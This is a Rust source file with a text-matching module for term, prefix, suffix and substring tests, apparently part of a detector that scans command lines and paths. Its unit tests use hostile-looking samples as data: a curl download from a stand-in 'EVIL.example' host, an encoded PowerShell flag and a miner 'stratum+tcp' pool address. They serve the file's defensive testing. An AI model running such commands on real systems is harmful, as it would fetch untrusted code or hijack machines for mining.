//! Terms in text: the `has` family, and the other tests of one text for another.
//!
//! A term is a run of letters and digits; everything else, the underscore too, delimits.

use memchr::memchr2;
use memchr::memmem::Finder;

/// The bytes that paths, command lines and names have most, the most common first.
const COMMON: &[u8] = b"e/a tsrino-lcdpumh.0g1b2f_=3y4k8w5:";
/// Terms shorter than this are in nearly every text.
const MIN_TERM_BYTES: usize = 3;

/// Which test.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub(crate) enum TextTest {
    Equal,
    Has,
    HasPrefix,
    HasSuffix,
    Contains,
    StartsWith,
    EndsWith,
}

/// A test with the text that is looked for, prepared for many texts.
#[derive(Debug, Clone)]
pub(crate) struct TextMatcher {
    test: TextTest,
    caseless: bool,
    needle: String,
    finder: Finder<'static>,
    /// The place in the needle of the byte that texts have least.
    rare: usize,
}

impl TextMatcher {
    pub(crate) fn new(test: TextTest, caseless: bool, needle: &str) -> Self {
        let needle = if caseless { needle.to_lowercase() } else { needle.to_owned() };
        let finder = Finder::new(&needle).into_owned();
        let commonness = |byte: u8| {
            COMMON.iter().rposition(|common| *common == byte).map(|at| COMMON.len() - at)
        };
        let rare = needle.bytes().enumerate().min_by_key(|(_, byte)| commonness(*byte));
        let rare = rare.map_or(0, |(place, _)| place);
        Self { test, caseless, needle, finder, rare }
    }

    /// The whole text that is looked for, when it is no part of a text that passes.
    pub(crate) fn whole(&self) -> Option<&str> {
        (self.test == TextTest::Equal).then_some(self.needle.as_str())
    }

    /// Terms, in small letters, that every text that passes has; not all there are.
    pub(crate) fn required_terms(&self) -> Vec<String> {
        let folded = self.needle.to_lowercase();
        // Where a letter stands at an edge and no boundary is asked for, the term may go on in the text.
        let (cut_start, cut_end) = match self.test {
            TextTest::Equal | TextTest::Has => (false, false),
            TextTest::HasPrefix | TextTest::StartsWith => (false, true),
            TextTest::HasSuffix | TextTest::EndsWith => (true, false),
            TextTest::Contains => (true, true),
        };
        let mut inner = folded.as_str();
        if cut_start {
            inner = inner.trim_start_matches(is_term);
        }
        if cut_end {
            inner = inner.trim_end_matches(is_term);
        }
        // Small letters are not always found where the capital ones are, except plain ones.
        let sure = |term: &&str| self.caseless || term.is_ascii();
        terms(inner).filter(sure).map(str::to_owned).collect()
    }

    /// Whether the text passes the test.
    pub(crate) fn matches(&self, text: &str) -> bool {
        if self.caseless && !text.is_ascii() {
            return self.passes(&text.to_lowercase(), false);
        }
        self.passes(text, self.caseless)
    }

    /// The test, with the case of plain letters put aside or not.
    fn passes(&self, text: &str, fold: bool) -> bool {
        let (bytes, needle) = (text.as_bytes(), self.needle.as_bytes());
        let same =
            |part: &[u8]| if fold { part.eq_ignore_ascii_case(needle) } else { part == needle };
        match self.test {
            TextTest::Equal => same(bytes),
            TextTest::Contains => self.find(bytes, 0, fold).is_some(),
            TextTest::StartsWith => bytes.get(..needle.len()).is_some_and(same),
            TextTest::EndsWith => bytes
                .len()
                .checked_sub(needle.len())
                .and_then(|at| bytes.get(at..))
                .is_some_and(same),
            TextTest::Has => self.has_term(text, fold, true, true),
            TextTest::HasPrefix => self.has_term(text, fold, true, false),
            TextTest::HasSuffix => self.has_term(text, fold, false, true),
        }
    }

    /// Where the needle stands at or after a place.
    fn find(&self, text: &[u8], from: usize, fold: bool) -> Option<usize> {
        let needle = self.needle.as_bytes();
        let rest = text.get(from..)?;
        if !fold || needle.is_empty() {
            return self.finder.find(rest).map(|at| from + at);
        }
        let rare = *needle.get(self.rare)?;
        let mut start = from + self.rare;
        loop {
            let rest = text.get(start..)?;
            let found = start + memchr2(rare, rare.to_ascii_uppercase(), rest)?;
            let at = found - self.rare;
            if text.get(at..at + needle.len())?.eq_ignore_ascii_case(needle) {
                return Some(at);
            }
            start = found + 1;
        }
    }

    /// Whether the needle stands in the text with a boundary at the edges asked for. At an edge where the
    /// needle itself begins or ends with a delimiter no boundary is needed.
    fn has_term(&self, text: &str, fold: bool, start: bool, end: bool) -> bool {
        let needle = self.needle.as_str();
        if needle.is_empty() {
            return true;
        }
        let start = start && needle.chars().next().is_some_and(is_term);
        let end = end && needle.chars().next_back().is_some_and(is_term);
        let mut from = 0;
        while let Some(at) = self.find(text.as_bytes(), from, fold) {
            let before = text.get(..at).and_then(|head| head.chars().next_back());
            let after = text.get(at + needle.len()..).and_then(|tail| tail.chars().next());
            let cut_before = start && before.is_some_and(is_term);
            let cut_after = end && after.is_some_and(is_term);
            if !cut_before && !cut_after {
                return true;
            }
            from = at + needle.chars().next().map_or(1, char::len_utf8);
        }
        false
    }
}

/// The terms of a text that are long enough to tell texts apart.
pub(crate) fn terms(text: &str) -> impl Iterator<Item = &str> {
    text.split(|letter| !is_term(letter)).filter(|term| term.len() >= MIN_TERM_BYTES)
}

fn is_term(letter: char) -> bool {
    letter.is_alphanumeric()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn has(text: &str, needle: &str) -> bool {
        TextMatcher::new(TextTest::Has, true, needle).matches(text)
    }

    #[test]
    fn a_term_is_bounded_by_everything_that_is_no_letter_or_digit() {
        assert!(has("curl -o /tmp/x http://EVIL.example", "evil"));
        assert!(has("a_b", "b"), "the underscore delimits");
        assert!(!has("curling", "curl"));
        assert!(has("curling curl", "CURL"), "a later occurrence counts");
        assert!(!has("straßen", "stra"));
    }

    #[test]
    fn a_needle_with_delimiters_needs_boundaries_only_at_its_term_edges() {
        assert!(!has("powershell.exe", "shell.exe"));
        assert!(has("x powershell.exe y", "powershell.exe"));
        assert!(has("pwsh -enc AAAA", "-enc"));
        assert!(!has("pwsh -encoded AAAA", "-enc"));
        assert!(has("a/tmp/", "/tmp/"));
    }

    #[test]
    fn plain_and_other_letters_are_found_in_any_case_at_any_place() {
        let contains = |text: &str, needle: &str| {
            TextMatcher::new(TextTest::Contains, true, needle).matches(text)
        };
        assert!(contains("pool Stratum+TCP://x", "sTRATUM+tcp"));
        assert!(contains("xxstratum+tcp", "tcp") && !contains("tc", "tcp"));
        assert!(contains("GROSSE STRASSE ÜBER", "straSSE über"));
        assert!(!contains("plain", "ü") && contains("", "") && contains("x", ""));
        assert!(TextMatcher::new(TextTest::EndsWith, true, "LN").matches("kiln"));
        assert!(!TextMatcher::new(TextTest::Contains, false, "KILN").matches("kiln"));
    }

    #[test]
    fn prefix_and_suffix_drop_one_boundary() {
        assert!(TextMatcher::new(TextTest::HasPrefix, true, "Curl").matches("x curling"));
        assert!(TextMatcher::new(TextTest::HasSuffix, true, "LING").matches("x curling"));
        assert!(!TextMatcher::new(TextTest::HasPrefix, false, "Curl").matches("x curling"));
    }
}
